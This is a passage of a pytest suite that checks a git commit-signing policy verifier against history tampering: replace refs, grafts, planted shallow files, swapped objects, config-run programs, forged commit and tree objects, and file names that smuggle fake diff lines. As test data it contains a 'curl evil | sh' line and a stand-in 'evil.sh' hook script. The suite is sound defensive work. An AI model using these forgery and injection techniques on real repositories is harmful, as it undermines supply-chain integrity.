"""Attacks on the source proof through git itself: replace refs, grafts, shallow clones, odd file
names, merges, tags, the default base of `run` and hand-written objects. Each asserts the exit
code and the reason, next to the honest control that must still pass."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from integrity.errors import InputError
from integrity.gitobjects import (
    MalformedObjectError,
    ObjectReader,
    git,
    parse_commit,
    parse_tree,
)
from integrity.repository import parse_range
from sealgate.errors import SealgateError
from sealgate.pipeline import NO_TRUSTED_BASE, default_range, resolve_config
from tests.components.cli import sealgate
from tests.components.gitrepo import Repo, SshUser, make_repo, ssh_user


def _policy(signers: list[tuple[str, list[str], str]], rules: str = "") -> str:
    lines = ["version: 1", "signers:"]
    for name, roles, key in signers:
        lines += [f"  - name: {name}", f"    roles: [{', '.join(roles)}]", f'    ssh: ["{key}"]']
    return "\n".join(lines) + "\n" + rules


def _raw(repo: Repo, rev: str, kind: str = "commit") -> bytes:
    return subprocess.run(["git", "-C", str(repo.path), "cat-file", kind, rev],
                          capture_output=True, check=True).stdout  # fmt: skip


def _store(repo: Repo, raw: bytes, kind: str = "commit") -> str:
    """Store a hand-written object as is (git's own format checks off), as an attacker can."""
    return subprocess.run(
        ["git", "-C", str(repo.path), "hash-object", "-t", kind, "-w", "--literally", "--stdin"],
        input=raw, capture_output=True, check=True,
    ).stdout.decode().strip()  # fmt: skip


def _ssh_sign(user: SshUser, payload: bytes, scratch: Path) -> bytes:
    """An SSH signature (namespace git) over `payload`, as a gpgsig header block."""
    message = scratch / "payload"
    message.write_bytes(payload)
    signature = scratch / "payload.sig"
    signature.unlink(missing_ok=True)
    subprocess.run(["ssh-keygen", "-q", "-Y", "sign", "-n", "git", "-f", str(user.key),
                    str(message)], check=True, capture_output=True)  # fmt: skip
    lines = signature.read_bytes().rstrip(b"\n").split(b"\n")
    return b"gpgsig " + b"\n ".join(lines) + b"\n"


def _signed_object(user: SshUser, header: bytes, message: bytes, scratch: Path) -> bytes:
    """A commit whose header lines are `header` (ending in a newline), signed by `user` the
    way git signs: the signature covers the object without its gpgsig header."""
    return header + _ssh_sign(user, header + b"\n" + message, scratch) + b"\n" + message


def _split(raw: bytes) -> tuple[bytes, bytes]:
    """(header lines without any gpgsig, message) of a commit."""
    header, _, message = raw.partition(b"\n\n")
    kept: list[bytes] = []
    in_signature = False
    for line in header.split(b"\n"):
        if line.startswith(b"gpgsig"):
            in_signature = True
            continue
        if in_signature and line.startswith(b" "):
            continue
        in_signature = False
        kept.append(line)
    return b"\n".join(kept) + b"\n", message


@pytest.fixture
def people(tmp_path: Path) -> dict[str, SshUser]:
    keys = tmp_path / "keys"
    keys.mkdir()
    return {name: ssh_user(keys, name) for name in ("alice", "bob", "mallory", "release2")}


def _base_policy(people: dict[str, SshUser], rules: str = "") -> str:
    return _policy([
        ("alice", ["developer", "policy-admin", "release-manager"], people["alice"].public_line),
        ("bob", ["developer"], people["bob"].public_line),
    ], rules)  # fmt: skip


RULES = 'rules:\n  - paths: ["deploy/**"]\n    require: release-manager\n'


@pytest.fixture
def repo(tmp_path: Path, people: dict[str, SshUser]) -> Repo:
    """alice (developer, policy-admin, release-manager) and bob (developer); `base` tags the
    policy commit; deploy/** needs release-manager."""
    repo = make_repo(tmp_path)
    repo.write(".sealgate/policy.yml", _base_policy(people, RULES))
    repo.write("src/app.txt", "the application\n")
    repo.commit_ssh(people["alice"], "policy")
    repo.git("tag", "base")
    return repo


def _commits(
    repo: Repo, *args: str | Path, env: dict[str, str] | None = None
) -> tuple[int, dict[str, object] | None, str]:
    extra = ("--range", "base..HEAD") if not any(a in ("--range", "--tag") for a in args) else ()
    result = sealgate("commits", "--repo", repo.path, "--json", "--no-cache", *extra, *args,
                      env=env)  # fmt: skip
    if result.returncode == 2:
        return 2, None, result.stderr
    assert result.returncode in (0, 1), result.stdout + result.stderr
    return result.returncode, json.loads(result.stdout), result.stderr


def _reasons(report: dict[str, object] | None) -> dict[str, str | None]:
    assert report is not None
    commits = report["commits"]
    assert isinstance(commits, list)
    return {c["subject"]: c["reason"] for c in commits}


def _codes(report: dict[str, object] | None) -> dict[str, str | None]:
    """subject -> reason code: what the audit log and the dashboard key on."""
    assert report is not None
    commits = report["commits"]
    assert isinstance(commits, list)
    return {c["subject"]: c["code"] for c in commits}


def _merge(repo: Repo, user: SshUser | None, branch: str, message: str) -> str:
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={user.key}"] if user else []
    repo.git(*sign, "merge", "-q", "--no-ff", *(["-S"] if user else []), "-m", message, branch)
    return repo.git("rev-parse", "HEAD")


# --- one door for git: replace refs, grafts, the repository's config, the environment -------


def test_replace_ref_of_a_commit_cannot_make_a_tampered_tree_match(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """`git replace SIGNED EVIL`: git would check out and rev-parse EVIL's tree for SIGNED."""
    signed = repo.commit_ssh(people["alice"], "signed release")
    repo.write("src/app.txt", "backdoored\n")
    evil = repo.commit_ssh(None, "evil twin")
    repo.git("replace", signed, evil)
    repo.git("checkout", "-q", "--detach", signed)  # with the replacement: the evil tree
    assert (repo.path / "src" / "app.txt").read_text() == "backdoored\n"
    result = sealgate("tree", "--repo", repo.path, "--commit", signed, "--json")
    assert result.returncode == 1, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["expected_tree"] == repo.git("--no-replace-objects", "rev-parse",
                                               f"{signed}^{{tree}}")  # fmt: skip
    assert {d["path"]: d["kind"] for d in report["differences"]} == {"src/app.txt": "modified"}
    # control: the honest checkout of the same commit is proven
    repo.git("replace", "-d", signed)
    repo.git("reset", "-q", "--hard", signed)
    assert sealgate("tree", "--repo", repo.path, "--commit", signed).returncode == 0


def test_replace_ref_of_a_tree_cannot_make_a_tampered_tree_match(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    signed = repo.commit_ssh(people["alice"], "signed release")
    good_tree = repo.git("rev-parse", f"{signed}^{{tree}}")
    repo.write("src/app.txt", "backdoored\n")
    repo.git("add", "-A")
    evil_tree = repo.git("write-tree")
    repo.git("replace", good_tree, evil_tree)
    result = sealgate("tree", "--repo", repo.path, "--commit", signed, "--json")
    assert result.returncode == 1, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["expected_tree"] == good_tree
    assert {d["path"]: d["kind"] for d in report["differences"]} == {"src/app.txt": "modified"}


def test_replace_graft_cannot_hide_an_unsigned_commit(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    repo.write("src/app.txt", "unsigned change\n")
    repo.commit_ssh(None, "unsigned change")
    head = repo.commit_ssh(people["bob"], "signed on top")
    repo.git("replace", "--graft", head, repo.git("rev-parse", "base"))
    assert repo.git("rev-list", "base..HEAD").split() == [head]  # git alone is fooled
    code, report, _ = _commits(repo)
    assert code == 1
    assert _reasons(report) == {"unsigned change": "unsigned", "signed on top": None}
    assert _codes(report) == {"unsigned change": "unsigned", "signed on top": None}


def test_replace_of_an_unsigned_commit_by_a_signed_one_is_not_followed(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """The object read for an id is that id's own object, not a signed stand-in."""
    signed = repo.commit_ssh(people["bob"], "signed")
    repo.write("src/app.txt", "evil\n")
    unsigned = repo.commit_ssh(None, "unsigned")
    repo.git("replace", unsigned, signed)
    code, report, _ = _commits(repo)
    assert code == 1
    assert _reasons(report)["unsigned"] == "unsigned"


def test_a_swapped_loose_object_is_refused_not_read_as_the_commit_asked_for(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """The unsigned commit's loose object file holds a signed commit's bytes: cat-file and
    rev-list serve them without checking their hash."""
    signed = repo.commit_ssh(people["bob"], "signed")
    repo.git("reset", "-q", "--hard", "base")
    repo.write("src/app.txt", "evil\n")
    unsigned = repo.commit_ssh(None, "unsigned")
    repo.commit_ssh(people["bob"], "signed on top")
    objects = repo.path / ".git" / "objects"
    target = objects / unsigned[:2] / unsigned[2:]
    target.chmod(0o644)
    target.write_bytes((objects / signed[:2] / signed[2:]).read_bytes())
    assert b"signed" in _raw(repo, unsigned)  # git serves the signed commit's bytes
    code, _, stderr = _commits(repo)
    assert code == 2
    assert f"object {unsigned} does not hash to its id" in stderr


def test_a_graft_file_is_refused(repo: Repo, people: dict[str, SshUser]) -> None:
    repo.commit_ssh(None, "hidden unsigned")
    head = repo.commit_ssh(people["bob"], "signed on top")
    graft = repo.path / ".git" / "info" / "grafts"
    graft.parent.mkdir(exist_ok=True)
    graft.write_text(f"{head} {repo.git('rev-parse', 'base')}\n")
    code, _, stderr = _commits(repo)
    assert code == 2
    assert f"{repo.path}: .git/info/grafts rewrites history; remove it" in stderr
    assert "[grafts]" in stderr
    graft.unlink()
    assert _commits(repo)[0] == 1  # control: without the graft, the unsigned commit is seen


def test_a_grafts_environment_variable_and_git_dir_are_not_honoured(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    """GIT_GRAFT_FILE, GIT_DIR and injected config in the environment cannot point the check
    at other history or another repository than --repo."""
    repo.commit_ssh(None, "unsigned")
    head = repo.commit_ssh(people["bob"], "signed on top")
    grafts = tmp_path / "grafts"
    grafts.write_text(f"{head} {repo.git('rev-parse', 'base')}\n")
    (tmp_path / "decoy-home").mkdir()
    decoy = make_repo(tmp_path / "decoy-home")
    decoy.write(".sealgate/policy.yml", _base_policy(people))
    decoy.commit_ssh(people["alice"], "policy")
    decoy.git("tag", "base")
    decoy.commit_ssh(people["bob"], "decoy work")
    env = {
        **repo.env, "GIT_GRAFT_FILE": str(grafts), "GIT_DIR": str(decoy.path / ".git"),
        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.commitGraph",
        "GIT_CONFIG_VALUE_0": "true",
    }  # fmt: skip
    steered = subprocess.run(["git", "-C", str(repo.path), "rev-parse", "HEAD"], env=env,
                             capture_output=True, text=True, check=True).stdout.strip()  # fmt: skip
    assert steered == decoy.git("rev-parse", "HEAD")  # plain git follows GIT_DIR
    code, report, _ = _commits(repo, env=env)
    assert code == 1
    assert _reasons(report) == {"unsigned": "unsigned", "signed on top": None}


def test_repository_config_cannot_run_programs_through_sealgate(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """core.fsmonitor, log.showSignature with gpg.ssh.program, core.hooksPath: the repo's
    config names programs; git run through the one door runs none of them."""
    marker = tmp_path / "ran"
    script = tmp_path / "evil.sh"
    script.write_text(f'#!/bin/sh\necho "$0 $*" >> {marker}\nexit 0\n')
    script.chmod(0o755)
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    (hooks / "post-checkout").write_text(f"#!/bin/sh\necho hook >> {marker}\n")
    (hooks / "post-checkout").chmod(0o755)
    repo.commit_ssh(people["bob"], "signed")
    for key, value in (("core.fsmonitor", str(script)), ("log.showSignature", "true"),
                       ("gpg.ssh.program", str(script)), ("core.hooksPath", str(hooks)),
                       ("gpg.ssh.allowedSignersFile", str(script)),
                       ("gpg.program", str(script))):  # fmt: skip
        repo.git("config", key, value)
    for control in (["status"], ["log", "-1"], ["checkout", "-q", "--detach", "HEAD"]):
        # plain git runs the repository's programs; its exit status is beside the point (the
        # fake gpg.ssh.program leaves before git has written the payload: SIGPIPE, now and then)
        subprocess.run(["git", "-C", str(repo.path), *control], env=repo.env,
                       capture_output=True, check=False)  # fmt: skip
        assert marker.exists(), control
        marker.unlink()
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    git(repo.path, "status")
    shown = git(repo.path, "log", "-1").decode()
    git(repo.path, "checkout", "-q", "--detach", "HEAD")
    assert "signature" not in shown.lower()
    assert _commits(repo)[0] == 0
    assert sealgate("tree", "--repo", repo.path).returncode == 0
    assert not marker.exists(), marker.read_text()


# --- shallow clones ---------------------------------------------------------------------------


def _history(repo: Repo, people: dict[str, SshUser]) -> list[str]:
    oids = []
    for i in range(3):
        repo.write("src/app.txt", f"{i}\n")
        oids.append(repo.commit_ssh(people["bob"] if i else None, f"change {i}"))
    return oids


def test_a_range_reaching_a_shallow_boundary_is_an_error(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    """`change 0` is unsigned and lies below the cut: a pass over what is present is refused."""
    _history(repo, people)
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--depth", "2", f"file://{repo.path}", str(clone)],
                   env=repo.env, check=True)  # fmt: skip
    subprocess.run(["git", "-C", str(clone), "fetch", "-q", "--depth", "1", "origin", "tag",
                    "base"], env=repo.env, check=True)  # fmt: skip
    boundary = (clone / ".git" / "shallow").read_text().split()
    head_parent = subprocess.run(["git", "-C", str(clone), "rev-parse", "HEAD~1"],
                                 capture_output=True, text=True, env=repo.env,
                                 check=True).stdout.strip()  # fmt: skip
    assert head_parent in boundary
    result = sealgate("commits", "--repo", clone, "--range", "base..HEAD")
    assert result.returncode == 2, result.stdout + result.stderr
    assert f"commit {head_parent}: shallow clone: fetch the full range (fetch-depth: 0)" in (
        result.stderr
    )
    assert "[shallow-clone]" in result.stderr
    # base not fetched at all: the same answer, naming the revision
    bare = tmp_path / "bare-clone"
    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{repo.path}", str(bare)],
                   env=repo.env, check=True)  # fmt: skip
    base = repo.git("rev-parse", "base")
    missing = sealgate("commits", "--repo", bare, "--range", f"{base}..HEAD")
    assert missing.returncode == 2
    assert "shallow clone: fetch the full range (fetch-depth: 0)" in missing.stderr
    assert base in missing.stderr
    assert "[shallow-clone]" in missing.stderr


def test_a_shallow_clone_cut_below_the_base_verifies(
    tmp_path: Path, people: dict[str, SshUser]
) -> None:
    """Control: a cut below BASE leaves the whole range present."""
    repo = make_repo(tmp_path)
    repo.commit_ssh(None, "ancient unsigned history")
    repo.write(".sealgate/policy.yml", _base_policy(people))
    repo.commit_ssh(people["alice"], "policy")
    repo.git("tag", "base")
    repo.write("f", "1\n")
    repo.commit_ssh(people["bob"], "bob")
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--depth", "2", "--no-single-branch",
                    f"file://{repo.path}", str(clone)], env=repo.env, check=True)  # fmt: skip
    assert (clone / ".git" / "shallow").exists()
    base = repo.git("rev-parse", "base")
    result = sealgate("commits", "--repo", clone, "--range", f"{base}..HEAD")
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_planted_shallow_file_cannot_hide_commits(repo: Repo, people: dict[str, SshUser]) -> None:
    oids = _history(repo, people)
    (repo.path / ".git" / "shallow").write_text(oids[1] + "\n")
    assert repo.git("rev-list", "base..HEAD").split() == [oids[2], oids[1]]  # git is fooled
    code, _, stderr = _commits(repo)
    assert code == 2
    assert f"commit {oids[1]}: shallow clone: fetch the full range (fetch-depth: 0)" in stderr
    assert "[shallow-clone]" in stderr


# --- file names are arbitrary bytes -----------------------------------------------------------

#: Paths with every byte a record-based parser could trip on; those with `/` are a directory
#: and a file. "caf\udce9" is the raw byte 0xE9 (not UTF-8), kept as surrogateescape.
ODD_NAMES = [
    "x\x01",
    ".sealgate\x01x",
    "tab\there",
    "new\nline",
    "bell\x07esc\x1b[31m",
    "x\n:000000 100644 0000000000000000000000000000000000000000 "
    "1111111111111111111111111111111111111111 A\t.sealgate/policy.yml",
    "\x01.sealgate/policy.yml",
    "\x01" + "ab" * 20 + "/odd",  # what `--format=%x01%H` printed before each commit
    "caf\udce9",
]


def _write_odd(repo: Repo, name: str, data: bytes) -> None:
    path = repo.path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


@pytest.mark.parametrize("name", ODD_NAMES, ids=repr)
def test_an_odd_file_name_cannot_hide_a_policy_change(
    repo: Repo, people: dict[str, SshUser], name: str
) -> None:
    """bob (developer only) edits the policy in the same commit as an oddly named file."""
    _write_odd(repo, name, b"decoy\n")
    repo.commit_ssh(people["bob"], "odd name alone")
    _write_odd(repo, name, b"decoy 2\n")
    policy = repo.path / ".sealgate" / "policy.yml"
    policy.write_text(policy.read_text().replace("roles: [developer]", "roles: [developer, "
                                                 "policy-admin]"))  # fmt: skip
    repo.commit_ssh(people["bob"], "bob makes himself admin")
    code, report, _ = _commits(repo)
    assert code == 1
    reasons = _reasons(report)
    assert reasons["odd name alone"] is None  # control: an odd name alone is fine
    assert "needs role policy-admin" in str(reasons["bob makes himself admin"])
    assert _codes(report)["bob makes himself admin"] == "policy-change-unauthorised"


@pytest.mark.parametrize("name", ODD_NAMES, ids=repr)
def test_an_odd_file_name_cannot_hide_a_rules_path(
    repo: Repo, people: dict[str, SshUser], name: str
) -> None:
    _write_odd(repo, name, b"decoy\n")
    repo.write("deploy/run.sh", "curl evil | sh\n")
    repo.commit_ssh(people["bob"], "bob deploys")
    code, report, _ = _commits(repo)
    assert code == 1
    assert "needs role release-manager" in str(_reasons(report)["bob deploys"])
    assert _codes(report)["bob deploys"] == "role-missing"


def test_changed_paths_come_from_the_tree_objects_exactly(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """Every odd name is one path, itself; nothing in a name can produce another path."""
    for name in ODD_NAMES:
        _write_odd(repo, name, b"x\n")
    head = repo.commit_ssh(people["bob"], "odd names")
    with ObjectReader(repo.path) as reader:
        tree = git(repo.path, "rev-parse", f"{head}^{{tree}}").decode().strip()
        parent = git(repo.path, "rev-parse", "base^{tree}").decode().strip()
        changed = reader.changed_paths(tree, parent)
    expected = set(ODD_NAMES) | {name.rsplit("/", 1)[0] for name in ODD_NAMES if "/" in name}
    assert changed == expected
    assert not any(p == ".sealgate" or p.startswith(".sealgate/") for p in changed)


def test_a_hand_written_tree_with_a_slash_in_a_name_is_malformed(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    """A tree entry named `.sealgate/policy.yml` (git cannot check it out) is refused."""
    blob = repo.git("rev-parse", "base:src/app.txt")
    base_tree = _raw(repo, "base^{tree}", "tree")
    entry = b"100644 .sealgate/policy.yml\0" + bytes.fromhex(blob)
    tree = _store(repo, base_tree + entry, "tree")
    header = (f"tree {tree}\nparent {repo.git('rev-parse', 'base')}\n"
              "author Bob <b@example.com> 1700000000 +0000\n"
              "committer Bob <b@example.com> 1700000000 +0000\n").encode()  # fmt: skip
    oid = _store(repo, _signed_object(people["bob"], header, b"slashed\n", tmp_path))
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    assert str(_reasons(report)["slashed"]).startswith("malformed tree object")
    assert _codes(report)["slashed"] == "malformed-object"


@pytest.mark.parametrize(
    ("entries", "detail"),
    [
        ([b"100644 a", b"100644 a"], "duplicate entry b'a'"),
        ([b"40000 .git"], "entry name b'.git'"),
        ([b"40000 .GIT"], "entry name b'.GIT'"),
        ([b"100644 .."], "entry name b'..'"),
        ([b"100644 "], "entry name b''"),
        ([b"10x644 a"], "a cut entry"),
    ],
)
def test_tree_objects_git_would_refuse_are_malformed(entries: list[bytes], detail: str) -> None:
    oid = "ab" * 20
    data = b"".join(entry + b"\0" + bytes(20) for entry in entries)
    with pytest.raises(MalformedObjectError) as refused:
        parse_tree(oid, data)
    assert refused.value.message == f"malformed tree object {oid} ({detail})"
    for cut in (b"100644 a\0" + bytes(7), b"100644 a", b"100644"):
        with pytest.raises(MalformedObjectError, match="a cut entry"):
            parse_tree(oid, cut)
    assert parse_tree(oid, b"040000 d\0" + bytes(20)) == {b"d": (0o040000, "00" * 20)}


def test_a_sha256_repository_verifies_and_a_sha1_header_there_is_unsigned(
    tmp_path: Path, people: dict[str, SshUser]
) -> None:
    repo = make_repo(tmp_path)
    subprocess.run(["rm", "-rf", str(repo.path)], check=True)
    subprocess.run(["git", "init", "-q", "--object-format=sha256", "-b", "main", str(repo.path)],
                   env=repo.env, check=True)  # fmt: skip
    repo.write(".sealgate/policy.yml", _base_policy(people, RULES))
    repo.commit_ssh(people["alice"], "policy")
    repo.git("tag", "base")
    repo.write("deploy/run.sh", "alice deploys\n")
    repo.commit_ssh(people["alice"], "alice deploys")
    repo.write("deploy/run.sh", "bob deploys\n")
    repo.commit_ssh(people["bob"], "bob deploys")
    code, report, _ = _commits(repo)
    assert code == 1
    reasons = _reasons(report)
    assert reasons["alice deploys"] is None
    assert "needs role release-manager" in str(reasons["bob deploys"])
    repo.git("reset", "-q", "--hard", "HEAD~1")
    raw = _raw(repo, "HEAD")
    assert b"\ngpgsig-sha256 " in raw
    oid = _store(repo, raw.replace(b"\ngpgsig-sha256 ", b"\ngpgsig ", 1))
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    assert _reasons(report)["alice deploys"] == "unsigned"


# --- merges are judged against every parent ---------------------------------------------------


def _remove_bob(repo: Repo, people: dict[str, SshUser]) -> str:
    repo.write(".sealgate/policy.yml", _policy([
        ("alice", ["developer", "policy-admin", "release-manager"], people["alice"].public_line),
    ], RULES))  # fmt: skip
    return repo.commit_ssh(people["alice"], "alice removes bob")


def test_a_merge_cannot_bring_back_a_removed_key_without_a_policy_admin(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """Line A removes bob; bob merges A into his line keeping the old policy (which lists him)."""
    repo.git("checkout", "-q", "-b", "line-a")
    removal = _remove_bob(repo, people)
    repo.git("checkout", "-q", "main")
    repo.write("src/app.txt", "bob's work\n")
    repo.commit_ssh(people["bob"], "bob on main")
    repo.git("merge", "-q", "--no-commit", "--no-ff", "line-a")
    repo.git("checkout", "main", "--", ".sealgate/policy.yml")  # resolve: keep the old policy
    repo.commit_ssh(people["bob"], "bob merges, keeping himself in")
    repo.write("src/app.txt", "after\n")
    repo.commit_ssh(people["bob"], "bob after the merge")
    code, report, _ = _commits(repo)
    assert code == 1
    reasons = _reasons(report)
    assert reasons["alice removes bob"] is None and reasons["bob on main"] is None
    assert "needs role policy-admin; bob has developer" in str(
        reasons["bob merges, keeping himself in"]
    )
    assert f"removed by commit {removal}" in str(reasons["bob after the merge"])
    assert _codes(report)["bob after the merge"] == "key-removed"
    assert _codes(report)["bob merges, keeping himself in"] == "policy-change-unauthorised"


def test_a_key_removed_on_the_second_parents_line_stays_removed_after_the_merge(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """alice merges line A (which removed bob) into main: bob's later commit is refused, and
    the reason names the commit that removed him, not the merge."""
    repo.git("checkout", "-q", "-b", "line-a")
    removal = _remove_bob(repo, people)
    repo.git("checkout", "-q", "main")
    repo.write("src/app.txt", "bob's work\n")
    repo.commit_ssh(people["bob"], "bob on main")
    _merge(repo, people["alice"], "line-a", "alice merges line-a")
    repo.write("src/app.txt", "after\n")
    repo.commit_ssh(people["bob"], "bob after the merge")
    code, report, _ = _commits(repo)
    assert code == 1
    reasons = _reasons(report)
    assert reasons["alice merges line-a"] is None
    assert str(reasons["bob after the merge"]).startswith("key SHA256:")
    assert str(reasons["bob after the merge"]).endswith(f"removed by commit {removal}")


def test_a_merge_signed_by_a_key_removed_on_one_line_is_refused(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    repo.git("checkout", "-q", "-b", "line-a")
    removal = _remove_bob(repo, people)
    repo.git("checkout", "-q", "main")
    repo.write("src/app.txt", "main work\n")
    repo.commit_ssh(people["alice"], "alice on main")
    repo.git("checkout", "-q", "line-a")
    _merge(repo, people["bob"], "main", "bob merges main into line-a")
    code, report, _ = _commits(repo, "--range", "base..line-a")
    assert code == 1
    assert f"removed by commit {removal}" in str(_reasons(report)["bob merges main into line-a"])
    assert _codes(report)["bob merges main into line-a"] == "key-removed"


def test_a_merge_needs_the_rule_roles_for_paths_changed_against_any_parent(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """alice changes deploy/ on main; bob's merge of his docs branch differs from his own
    parent in deploy/ and so needs release-manager (first-parent diffing saw nothing)."""
    repo.git("checkout", "-q", "-b", "docs")
    repo.write("docs/readme.md", "docs\n")
    repo.commit_ssh(people["bob"], "bob writes docs")
    repo.git("checkout", "-q", "main")
    repo.write("deploy/run.sh", "deploy\n")
    repo.commit_ssh(people["alice"], "alice deploys")
    _merge(repo, people["bob"], "docs", "bob merges docs")
    code, report, _ = _commits(repo)
    assert code == 1
    reasons = _reasons(report)
    assert reasons["alice deploys"] is None and reasons["bob writes docs"] is None
    assert "needs role release-manager" in str(reasons["bob merges docs"])


def test_an_honest_merge_of_two_honest_branches_passes(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    repo.git("checkout", "-q", "-b", "feature")
    repo.write("src/feature.txt", "f\n")
    repo.commit_ssh(people["bob"], "bob's feature")
    repo.git("checkout", "-q", "main")
    repo.write("src/main.txt", "m\n")
    repo.commit_ssh(people["alice"], "alice on main")
    _merge(repo, people["bob"], "feature", "bob merges the feature")
    code, report, _ = _commits(repo)
    assert code == 0, report
    assert _reasons(report)["bob merges the feature"] is None


def test_a_merge_of_a_branch_that_rotated_a_key_passes_when_signed_by_a_key_valid_on_both(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    """alice rotates bob's key to a new one on a branch and merges it; the old key then fails,
    the new one passes."""
    repo.git("checkout", "-q", "-b", "rotate")
    repo.write(".sealgate/policy.yml", _policy([
        ("alice", ["developer", "policy-admin", "release-manager"], people["alice"].public_line),
        ("bob", ["developer"], people["release2"].public_line),
    ], RULES))  # fmt: skip
    rotation = repo.commit_ssh(people["alice"], "alice rotates bob's key")
    repo.git("checkout", "-q", "main")
    repo.write("src/main.txt", "m\n")
    repo.commit_ssh(people["bob"], "bob with the old key")
    _merge(repo, people["alice"], "rotate", "alice merges the rotation")
    repo.write("src/main.txt", "new key\n")
    repo.commit_ssh(people["release2"], "bob with the new key")
    code, report, _ = _commits(repo)
    assert code == 0, report
    repo.write("src/main.txt", "old key\n")
    repo.commit_ssh(people["bob"], "bob with the old key again")
    code, report, _ = _commits(repo)
    assert code == 1
    assert str(_reasons(report)["bob with the old key again"]).endswith(
        f"removed by commit {rotation}"
    )


def test_an_octopus_merge_is_judged_under_every_parents_policy(
    repo: Repo, people: dict[str, SshUser]
) -> None:
    for branch in ("one", "two"):
        repo.git("checkout", "-q", "-b", branch, "base")
        repo.write(f"src/{branch}.txt", f"{branch}\n")
        repo.commit_ssh(people["alice"], f"branch {branch}")
    repo.git("checkout", "-q", "-b", "three", "base")
    removal = _remove_bob(repo, people)
    repo.git("checkout", "-q", "main")
    repo.write("src/app.txt", "main\n")
    repo.commit_ssh(people["bob"], "bob on main")
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={people['bob'].key}"]
    repo.git(*sign, "merge", "-q", "-S", "-m", "bob's octopus", "one", "two", "three")
    assert len(repo.git("rev-parse", "HEAD^@").split()) == 4
    code, report, _ = _commits(repo)
    assert code == 1
    assert "needs role policy-admin; bob has developer" in str(_reasons(report)["bob's octopus"])
    repo.write("src/app.txt", "after\n")
    repo.commit_ssh(people["bob"], "bob after the octopus")
    assert f"removed by commit {removal}" in str(
        _reasons(_commits(repo)[1])["bob after the octopus"]
    )
    # control: the same octopus by alice (valid under every parent's policy) passes
    repo.git("reset", "-q", "--hard", "HEAD~2")
    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={people['alice'].key}"]
    repo.git(*sign, "merge", "-q", "-S", "-m", "alice's octopus", "one", "two", "three")
    code, report, _ = _commits(repo)
    assert code == 0, report


def test_a_merge_with_a_duplicate_parent_is_malformed(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    parent = repo.commit_ssh(people["bob"], "bob")
    tree = repo.git("rev-parse", "HEAD^{tree}")
    header = (f"tree {tree}\nparent {parent}\nparent {parent}\n"
              "author Bob <b@example.com> 1700000000 +0000\n"
              "committer Bob <b@example.com> 1700000000 +0000\n").encode()  # fmt: skip
    oid = _store(repo, _signed_object(people["bob"], header, b"twice the same parent\n", tmp_path))
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    assert _reasons(report)["twice the same parent"] == (
        f"malformed commit object (duplicate parent {parent})"
    )


# --- hand-written commit objects --------------------------------------------------------------


def test_a_second_tree_line_is_refused_not_judged_on_another_tree(
    repo: Repo, people: dict[str, SshUser], tmp_path: Path
) -> None:
    """bob signs an object whose FIRST tree (what git checks out) changes deploy/, and whose
    last tree (what a lax parser reads) does not."""
    parent = repo.git("rev-parse", "HEAD")
    benign = repo.git("rev-parse", "HEAD^{tree}")
    repo.write("deploy/run.sh", "evil\n")
    repo.git("add", "-A")
    evil = repo.git("write-tree")
    header = (f"tree {evil}\ntree {benign}\nparent {parent}\n"
              "author Bob <b@example.com> 1700000000 +0000\n"
              "committer Bob <b@example.com> 1700000000 +0000\n").encode()  # fmt: skip
    oid = _store(repo, _signed_object(people["bob"], header, b"two trees\n", tmp_path))
    repo.git("update-ref", "refs/heads/main", oid)
    code, report, _ = _commits(repo)
    assert code == 1
    assert _reasons(report)["two trees"] == "malformed commit object (a second `tree` line)"
    assert _codes(report)["two trees"] == "malformed-object"


#: Hand edits git still walks (and a lax parser would judge), then edits git cannot read.
WALKABLE: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "header-between": (lambda h: h.replace(b"\nauthor ", b"\nencoding UTF-8\nauthor "),
                       "`author` must follow the parents"),
    "two-authors": (lambda h: h + b"author Eve <e@example.com> 1700000000 +0000\n",
                    "a second `author` line"),
    "two-committers": (lambda h: h + b"committer Eve <e@example.com> 1700000000 +0000\n",
                       "a second `committer` line"),
    "no-committer": (lambda h: h.replace(b"\ncommitter ", b"\nx-committer "),
                     "`committer` must follow `author`"),
    "upper-hex": (lambda h: h[:5] + h[5:45].upper() + h[45:], "bad tree id"),
}  # fmt: skip
UNREADABLE: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "parent-first": (lambda h: b"parent " + b"0" * 40 + b"\n" + h, "the first line is not `tree`"),
